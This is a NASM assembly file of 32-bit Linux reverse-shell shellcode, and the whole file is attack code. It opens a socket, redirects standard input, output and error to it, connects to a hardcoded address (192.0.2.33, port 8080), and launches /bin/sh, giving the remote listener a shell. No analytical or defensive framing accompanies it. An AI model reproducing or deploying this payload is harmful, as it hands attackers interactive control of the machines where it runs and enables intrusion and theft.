; Linux, 32 bit: connects to 192.0.2.33 port 8080 and hands the connection to a shell.
bits 32
%ifndef PORT
%define PORT 8080
%define ADDRESS 0x210200c0     ; 192.0.2.33
%endif
        xor ebx, ebx
        mul ebx
        push ebx
        inc ebx
        push ebx
        push byte 2
        mov ecx, esp
        mov al, 102
        int 80h
        xchg eax, ebx
        push byte 2
        pop ecx
again:  mov al, 63
        int 80h
        dec ecx
        jns again
        push dword ADDRESS
        push word ((PORT & 255) << 8) | (PORT >> 8)
        push word 2
        mov ecx, esp
        push byte 16
        push ecx
        push ebx
        mov ecx, esp
        push byte 3
        pop ebx
        push byte 102
        pop eax
        int 80h
        xor eax, eax
        push eax
        push dword '//sh'
        push dword '/bin'
        mov ebx, esp
        push eax
        push ebx
        mov ecx, esp
        cdq
        mov al, 11
        int 80h
